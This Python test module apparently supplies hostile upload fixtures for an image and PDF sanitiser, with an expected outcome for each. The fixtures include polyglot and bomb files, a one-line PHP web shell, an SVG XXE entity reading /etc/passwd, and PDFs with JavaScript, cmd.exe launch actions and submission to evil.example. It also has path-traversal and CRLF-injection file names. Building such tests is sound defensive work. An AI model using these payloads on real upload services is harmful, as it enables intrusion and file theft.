"""Uploads made to do harm, each with what must become of it: a sentence that refuses, or a picture that is clean.

``PAYLOAD`` stands in every one of them where the format lets it, so that a clean picture is one without it.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

from tests.documents.make import paper, picture

PAYLOAD = b"<script>alert('HOSTILE-PAYLOAD')</script>"
CLEAN, EITHER = "clean", "either"
SIGNATURE = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True)
class Hostile:
    """A file, and what must become of it: clean, refused with a slug of ``office/pictures.py``, or either."""

    data: bytes
    outcome: str
    name: str = "IMG_1.jpg"


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2, pixels: bytes = b"") -> bytes:
    """A PNG whose header says anything."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return SIGNATURE + head + b"".join(chunks) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")


def whole_png(*chunks: bytes) -> bytes:
    return png(8, 8, *chunks, pixels=(b"\0" + b"\x40\x80\xc0" * 8) * 8)


def with_segment(jpeg: bytes, marker: int, content: bytes) -> bytes:
    """A JPEG with a segment more behind its beginning."""
    return jpeg[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content + jpeg[2:]


def webp(width: int, height: int, *, moving: bool = False) -> bytes:
    """A WebP whose header says anything."""
    flags = bytes([2 if moving else 0, 0, 0, 0])
    body = flags + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    content = b"WEBPVP8X" + struct.pack("<I", len(body)) + body + b"VP8 " + struct.pack("<I", 4) + b"\0" * 4
    return b"RIFF" + struct.pack("<I", len(content)) + content


def moving(form: str) -> bytes:
    out = BytesIO()
    frames = [Image.new("RGB", (20, 20), shade) for shade in ("red", "green", "blue")]
    frames[0].save(out, form, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def large(form: str, mode: str = "RGB", **saved: object) -> bytes:
    """49 megapixels."""
    out = BytesIO()
    Image.new(mode, (7000, 7000), "brown").save(out, form, **saved)
    return out.getvalue()


def pdf(*objects: bytes, catalog: bytes = b"", page: bytes = b"", pages: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of blank pages with whatever else hangs on its catalog, its first page and its trailer."""
    kids = b" ".join(b"%d 0 R" % (3 + nth) for nth in range(pages))
    told = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, kids),
    ]
    told += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>" % page] * pages
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate([*told, *objects], 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, table) + end


def stream(content: bytes, told: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), told, content)


def archive(name: str = "evil.php", content: bytes = PAYLOAD) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as packed:
        packed.writestr(name, content)
    return out.getvalue()


def exif(**more: object) -> bytes:
    """EXIF with a place on the map, a camera, a comment and a thumbnail of its own kind of trouble."""
    data = Image.Exif()
    data[0x010F], data[0x010E] = "HOSTILE-PAYLOAD", PAYLOAD.decode()
    data.get_ifd(0x8825).update({1: "N", 2: (26.0, 7.0, 30.0), 3: "E", 4: (113.0, 6.0, 12.0)})
    data.get_ifd(0x8825)[29] = "2026:11:23"
    if "orientation" in more:
        data[0x0112] = more["orientation"]
    return data.tobytes()


def not_pictures() -> Iterator[tuple[str, Hostile]]:
    others = {
        "SVG": b"<svg xmlns='http://www.w3.org/2000/svg'>" + PAYLOAD + b"</svg>",
        "SVG after a declaration": b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
        "HTML named jpg": b"<!doctype html><html>" + PAYLOAD,
        "PHP": b"<?php system($_GET['x']); ?>",
        "JavaScript": b"alert('HOSTILE-PAYLOAD')//",
        "GIF": moving("GIF"), "GIF that is JavaScript": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert('HOSTILE-PAYLOAD')",
        "TIFF": picture(form="TIFF"), "BMP": picture(form="BMP"), "ICO": picture(form="ICO"),
        "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n",
        "PSD": b"8BPS\0\1" + b"\0" * 60, "PPM": picture(form="PPM"), "JPEG 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 40,
        "ZIP": archive(), "ELF": b"\x7fELF" + b"\0" * 60, "Windows program": b"MZ" + b"\0" * 80,
        "SVG compressed": b"\x1f\x8b" + zlib.compress(b"<svg/>"), "text": "一段文字".encode(),
    }  # fmt: skip
    yield from ((name, Hostile(data, "other")) for name, data in others.items())
    yield "nothing", Hostile(b"", "empty")
    yield "nothing but zeros", Hostile(b"\0" * 5000, "empty")
    for brand in (b"heic", b"mif1", b"avif"):
        yield f"{brand.decode()} photo", Hostile(b"\0\0\0\x18ftyp" + brand + b"\0\0\0\0mif1heic" + b"\0" * 40, "heic")
    yield "film", Hostile(b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + b"\0" * 40, "video")
    yield "Word of old", Hostile(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "word")
    yield "Word of today", Hostile(archive("word/document.xml", b"<w:document/>"), "word")
    yield "Word named jpg with macros", Hostile(archive("[Content_Types].xml", PAYLOAD), "word", "合同.jpg")
    yield "larger than 15 MB", Hostile(picture() + b"\0" * (15 * 1024 * 1024), "too_large")


def polyglots() -> Iterator[tuple[str, Hostile]]:
    for tail_name, tail in {
        "zip": archive(),
        "php": b"<?php HOSTILE-PAYLOAD ?>",
        "html": PAYLOAD,
        "jar": archive("A.class"),
    }.items():
        yield f"JPEG with {tail_name} behind", Hostile(picture() + tail, CLEAN)
        yield f"PNG with {tail_name} behind", Hostile(whole_png() + tail, CLEAN)
    yield "WebP with html behind", Hostile(picture(form="WEBP") + PAYLOAD, CLEAN)
    yield "JPEG that is HTML in its comment", Hostile(with_segment(picture(), 0xFE, b"-->" + PAYLOAD), CLEAN)
    yield "JPEG that is JavaScript", Hostile(with_segment(picture(), 0xFE, b"*/=alert('HOSTILE-PAYLOAD');/*"), CLEAN)
    yield (
        "JPEG with an ICC profile of lies",
        Hostile(with_segment(picture(), 0xE2, b"ICC_PROFILE\0\1\1" + PAYLOAD * 90), CLEAN),
    )
    yield "JPEG with XMP", Hostile(with_segment(picture(), 0xE1, b"http://ns.adobe.com/xap/1.0/\0" + PAYLOAD), CLEAN)
    yield (
        "JPEG with Photoshop data",
        Hostile(with_segment(picture(), 0xED, b"Photoshop 3.0\x008BIM\4\4\0\0" + PAYLOAD), CLEAN),
    )
    yield "PNG with text", Hostile(whole_png(chunk(b"tEXt", b"Comment\0" + PAYLOAD)), CLEAN)
    yield "PNG with EXIF", Hostile(whole_png(chunk(b"eXIf", exif()[6:])), CLEAN)
    yield "PNG with a chunk of its own", Hostile(whole_png(chunk(b"haRm", PAYLOAD)), CLEAN)
    yield "PNG with PHP in its pixels", Hostile(png(8, 8, pixels=(b"\0" + b"<?=`$_GET[1]`?>012345678")[:25] * 8), CLEAN)
    yield "PDF that is a ZIP", Hostile(paper() + archive(), EITHER, "合同.pdf")
    yield "PDF that is HTML", Hostile(pdf(stream(PAYLOAD)) + PAYLOAD, EITHER, "合同.pdf")
    yield "JPEG behind a GIF head", Hostile(b"GIF89a" + picture(), "other")
    yield "PDF in a JPEG", Hostile(with_segment(picture(), 0xFE, pdf()[:60000]), CLEAN)


def headers_that_lie() -> Iterator[tuple[str, Hostile]]:
    yield "PNG of 50,000 × 50,000", Hostile(png(50_000, 50_000, pixels=b"\0" * 100), "too_many_pixels")
    yield "PNG of 2 billion × 2 billion", Hostile(png(2**31 - 1, 2**31 - 1), "too_many_pixels")
    yield "PNG of no width", Hostile(png(0, 8), "damaged")
    yield "PNG one pixel over the limit", Hostile(png(50_000_001, 1), "too_many_pixels")
    yield "PNG that says 7,000 × 7,000 and holds a line", Hostile(png(7000, 7000, pixels=b"\0" * 100), "damaged")
    jpeg = picture(64, 48)
    place = jpeg.index(b"\xff\xc0") + 5
    huge = jpeg[:place] + struct.pack(">HH", 65_000, 65_000) + jpeg[place + 4 :]
    yield "JPEG of 65,000 × 65,000", Hostile(huge, "too_many_pixels")
    large = jpeg[:place] + struct.pack(">HH", 7000, 7000) + jpeg[place + 4 :]
    yield "JPEG that says 7,000 × 7,000 and holds a stamp", Hostile(large, EITHER)
    yield "WebP of 16,384 × 16,384", Hostile(webp(16_384, 16_384), "too_many_pixels")
    yield "WebP of 1a million × 1a million", Hostile(webp(2**24, 2**24), "too_many_pixels")
    yield "WebP without an image", Hostile(webp(20, 20), "damaged")
    yield "WebP head alone", Hostile(b"RIFF\xff\xff\xff\xffWEBP", "damaged")
    yield "PNG with a wrong checksum", Hostile(whole_png()[:-20] + b"\0" * 8 + whole_png()[-12:], EITHER)
    yield "PNG with a palette that is not there", Hostile(png(8, 8, colour=3, pixels=b"\0" * 72), EITHER)


def bombs() -> Iterator[tuple[str, Hostile]]:
    zeros = zlib.compress(b"\0" * 100_000_000, 6)
    yield "PNG with 100 MB of compressed text", Hostile(whole_png(chunk(b"zTXt", b"x\0\0" + zeros)), EITHER)
    yield "PNG with 100 MB of international text", Hostile(whole_png(chunk(b"iTXt", b"x\0\1\0\0\0" + zeros)), EITHER)
    yield "PNG with a compressed profile of 100 MB", Hostile(whole_png(chunk(b"iCCP", b"x\0\0" + zeros)), EITHER)
    yield "PNG with 3,000 texts", Hostile(whole_png(*(chunk(b"tEXt", b"k%d\0v" % nth) for nth in range(3000))), EITHER)
    yield "PNG with more pixels than it says", Hostile(png(8, 8, pixels=b"\0" * 100_000_000), EITHER)
    yield "PNG of 49 megapixels", Hostile(large("PNG"), CLEAN)
    yield "progressive JPEG of 49 megapixels", Hostile(large("JPEG", progressive=True), CLEAN)
    image = b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode"
    drawn = b"/Contents 4 0 R /Resources << /XObject << /P 5 0 R >> >>"
    yield (
        "PDF with a picture of 900 megapixels",
        Hostile(pdf(stream(b"q 200 0 0 200 0 0 cm /P Do Q"), stream(zeros, image), page=drawn), EITHER),
    )
    inner = zlib.compress(b"0 0 1 1 re f\n" * 1_000_000, 6)
    yield (
        "PDF with a million rectangles",
        Hostile(pdf(stream(inner, b"/Filter /FlateDecode"), page=b"/Contents 4 0 R"), EITHER),
    )
    form = stream(
        b"/F Do " * 2000, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>"
    )
    yield (
        "PDF that draws itself in itself",
        Hostile(pdf(stream(b"/F Do"), form, page=b"/Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >>"), EITHER),
    )


def cut_off() -> Iterator[tuple[str, Hostile]]:
    whole = {
        "JPEG": picture(400, 300),
        "PNG": picture(400, 300, "PNG"),
        "WebP": picture(400, 300, "WEBP"),
        "PDF": paper(2),
    }
    for form, data in whole.items():
        for part in (3, 12, 20, 40, 60, 80, 95, 99):
            yield f"{form} cut off at {part} %", Hostile(data[: max(13, len(data) * part // 100)], EITHER)
        middle = len(data) // 2
        yield f"{form} with a hole", Hostile(data[:middle] + b"\0" * 200 + data[middle + 200 :], EITHER)


def papers() -> Iterator[tuple[str, Hostile]]:
    script = b"<< /S /JavaScript /JS (app.alert\\('HOSTILE-PAYLOAD'\\)) >>"
    launch = b"<< /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (HOSTILE-PAYLOAD) >> >>"
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (http://evil.example/HOSTILE-PAYLOAD) >> >>]"
    named = b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>"
    yield "PDF with JavaScript", Hostile(pdf(catalog=b"/OpenAction " + script), CLEAN)
    yield "PDF that starts a program", Hostile(pdf(catalog=b"/OpenAction " + launch), CLEAN)
    yield "PDF with JavaScript on its page", Hostile(pdf(page=b"/AA << /O " + script + b" >>"), CLEAN)
    yield "PDF with a link", Hostile(pdf(page=link), CLEAN)
    yield "PDF with a file inside", Hostile(pdf(stream(b"MZ" + PAYLOAD), catalog=named), CLEAN)
    yield (
        "PDF with metadata",
        Hostile(pdf(stream(PAYLOAD, b"/Type /Metadata /Subtype /XML"), catalog=b"/Metadata 4 0 R"), CLEAN),
    )
    yield "PDF with a form that submits", Hostile(
        pdf(catalog=b"/AcroForm << /Fields [] /XFA (HOSTILE-PAYLOAD) >> /OpenAction << /S /SubmitForm /F (http://evil.example) >>"), CLEAN
    )  # fmt: skip
    yield "PDF of 10,000 pages", Hostile(pdf(pages=10_000), "too_many_pages")
    yield "PDF of 31 pages", Hostile(pdf(pages=31), "too_many_pages")
    yield "PDF of 30 pages", Hostile(pdf(pages=30), CLEAN)
    yield "PDF of no pages", Hostile(pdf(pages=0), "damaged")
    yield "PDF that says it has 2 billion pages", Hostile(pdf().replace(b"/Count 1", b"/Count 2147483647"), EITHER)
    locked = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -1 >> /ID [<00> <00>]" % (
        b"41" * 32,
        b"42" * 32,
    )
    yield "PDF locked by a password", Hostile(pdf(trailer=locked), "locked")
    yield "PDF of a page larger than a field", Hostile(pdf().replace(b"[0 0 200 200]", b"[0 0 99999 99999]"), EITHER)
    yield "PDF of a page without size", Hostile(pdf().replace(b"[0 0 200 200]", b"[0 0 0 0]"), EITHER)
    yield "PDF of a page as thin as a thread", Hostile(pdf().replace(b"[0 0 200 200]", b"[0 0 1 14400]"), EITHER)
    yield "PDF whose pages hang on themselves", Hostile(pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), EITHER)
    yield "PDF head alone", Hostile(b"%PDF-1.7\n", "damaged")
    yield "PDF head and noise", Hostile(b"%PDF-1.7\n" + bytes(range(256)) * 40, "damaged")


def pictures_of_all_sorts() -> Iterator[tuple[str, Hostile]]:
    yield "moving PNG", Hostile(moving("PNG"), "moving")
    yield "moving WebP", Hostile(moving("WEBP"), "moving")
    yield "WebP that says it moves", Hostile(webp(20, 20, moving=True), "moving")
    yield "photo with others behind it (MPO)", Hostile(moving("MPO"), CLEAN)
    yield "JPEG with place, camera and comment", Hostile(picture(exif=exif(orientation=6)), CLEAN)
    yield "WebP with place, camera and comment", Hostile(picture(form="WEBP", exif=exif()), CLEAN)
    yield "JPEG with EXIF of noise", Hostile(with_segment(picture(), 0xE1, b"Exif\0\0" + bytes(range(256)) * 20), CLEAN)
    yield "JPEG in four inks", Hostile(picture(mode="CMYK"), CLEAN)
    yield "JPEG in grey", Hostile(picture(mode="L"), CLEAN)
    yield "PNG of 16 bits", Hostile(picture(form="PNG", mode="I;16"), CLEAN)
    yield "PNG in black and white", Hostile(picture(form="PNG", mode="1"), CLEAN)
    yield "PNG with a palette", Hostile(picture(form="PNG", mode="P"), CLEAN)
    yield "PNG that is transparent", Hostile(picture(form="PNG", mode="RGBA"), CLEAN)
    yield "PNG in grey that is transparent", Hostile(picture(form="PNG", mode="LA"), CLEAN)
    yield "one pixel", Hostile(picture(1, 1), CLEAN)
    yield "a picture as thin as a thread", Hostile(picture(1, 60_000, "PNG"), CLEAN)
    yield "a picture as flat as a thread", Hostile(picture(60_000, 1, "PNG"), CLEAN)


def names() -> Iterator[tuple[str, Hostile]]:
    for name in (
        "../../../etc/passwd", "..\\..\\windows\\system32\\evil.jpg", "a\0.php.jpg", "gpj.\u202eexe", "名" * 300, "evil.php",
        "x.jpg.html", "", ".htaccess", "con.jpg", "<img src=x onerror=alert(1)>.jpg", "a\r\nSet-Cookie: x=1.jpg", "😀.jpg",
    ):  # fmt: skip
        yield f"called {name[:30]!r}", Hostile(picture(), CLEAN, name)
    yield "PDF called jpg", Hostile(paper(), CLEAN, "a.jpg")
    yield "PNG called pdf", Hostile(whole_png(), CLEAN, "a.pdf")


GROUPS = (not_pictures, polyglots, headers_that_lie, bombs, cut_off, papers, pictures_of_all_sorts, names)
